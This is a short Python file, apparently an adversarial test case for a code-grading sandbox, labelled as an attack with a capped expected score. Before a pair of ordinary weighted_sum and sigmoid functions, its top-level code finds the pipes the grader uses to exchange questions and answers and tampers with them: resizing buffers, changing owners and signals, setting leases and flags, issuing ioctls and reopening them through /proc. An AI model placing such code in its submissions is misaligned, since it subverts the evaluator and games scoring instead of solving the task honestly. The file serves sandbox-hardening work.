# attack: gives the pipes of question and answer other sizes, flags, owners and bytes of its own pages
# expect: at most 10 points
import contextlib, ctypes, fcntl, os, signal, struct

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
pipes = []
for number in range(3, 64):
    with contextlib.suppress(OSError):
        if os.fstat(number).st_mode & 0o170000 == 0o010000:
            pipes.append(number)
page = ctypes.create_string_buffer(b"\xff" * 4096, 4096)
for pipe in pipes:
    for command, value in ((1031, 1 << 20), (1031, 1 << 30), (1031, 4096), (8, 1), (8, -1), (10, 9), (1024, 1)):
        with contextlib.suppress(OSError):
            fcntl.fcntl(pipe, command, value)  # its size, its owner, its signal, a lease
    with contextlib.suppress(OSError):
        flags = fcntl.fcntl(pipe, fcntl.F_GETFL)
        fcntl.fcntl(pipe, fcntl.F_SETFL, flags | os.O_ASYNC | os.O_NONBLOCK)
        fcntl.fcntl(pipe, fcntl.F_SETFL, flags & ~os.O_NONBLOCK)
    for request in (0x5421, 0x5452, 0x8901, 0x541B):
        with contextlib.suppress(OSError):
            fcntl.ioctl(pipe, request, struct.pack("i", 0))
    with contextlib.suppress(OSError):
        os.close(os.open(f"/proc/self/fd/{pipe}", os.O_RDWR))
        print("LEAK a pipe opened from both sides")
signal.signal(signal.SIGIO, signal.SIG_IGN)


def weighted_sum(x, w, b=0.0):
    return float(np.dot(np.asarray(x, dtype=float), np.asarray(w, dtype=float)) + b)


def sigmoid(z):
    z = np.asarray(z)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))
